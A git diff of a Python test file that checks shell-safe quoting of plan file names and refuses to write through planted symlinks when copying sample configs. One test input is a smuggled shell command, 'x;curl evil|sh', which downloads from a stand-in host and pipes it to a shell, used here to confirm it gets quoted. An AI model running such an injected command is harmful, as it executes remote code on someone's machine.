@@ -6,7 +6,15 @@ import pytest
 
 from engines.runtime.own_packages import CONFIGS
 from flows.plan.changes import Changes
-from flows.plan.samples import FileInTheWay, copy_samples, find_plan, plan_argument, sample_plans, sweep_command
+from flows.plan.samples import (
+    FileInTheWay,
+    copy_samples,
+    copy_schema,
+    find_plan,
+    plan_argument,
+    sample_plans,
+    sweep_command,
+)
 from flows.plan.source import PlanError, load_plan
 
 
@@ -33,6 +41,7 @@ def test_a_sample_plan_is_called_by_its_name() -> None:
     assert plan_argument(CONFIGS / "cpu.yaml") == "cpu"
     assert plan_argument(Path("plans/cpu.yaml")) == "plans/cpu.yaml"
     assert plan_argument(Path("x;curl evil|sh")) == "'x;curl evil|sh'"  # a run's, which may be somebody else's
+    assert plan_argument(Path("--help")) == "./--help"
 
 
 def test_a_sweep_goes_on_by_the_command_that_it_was_begun_with() -> None:
@@ -48,3 +57,14 @@ def test_copies_overwrite_nothing(tmp_path: Path) -> None:
     with pytest.raises(FileInTheWay, match=r"prefect\.yaml exists: nothing was copied"):
         copy_samples(tmp_path)
     assert [file.name for file in tmp_path.iterdir()] == ["prefect.yaml"]
+
+
+def test_copies_are_written_through_no_link(tmp_path: Path) -> None:
+    """The working directory may be somebody else's, who would choose which file of ours is written."""
+    ours = tmp_path / "ours"
+    (tmp_path / "plan.schema.json").symlink_to(ours)
+    copy_schema(tmp_path)
+    (tmp_path / "prefect.yaml").symlink_to(ours)
+    copy_samples(tmp_path, replace=True)
+    assert not ours.exists()
+    assert (tmp_path / "plan.schema.json").read_bytes() == (CONFIGS / "plan.schema.json").read_bytes()
